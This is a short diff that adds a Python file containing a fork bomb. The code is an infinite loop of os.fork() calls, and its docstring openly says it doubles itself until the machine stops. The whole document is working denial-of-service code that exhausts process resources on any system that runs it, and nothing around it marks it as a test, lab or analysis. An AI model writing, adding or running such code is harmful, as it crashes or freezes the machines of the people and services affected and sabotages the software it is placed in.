@@ -1,0 +1,6 @@
+"""Doubles itself until the machine stops."""
+
+import os
+
+while True:
+    os.fork()
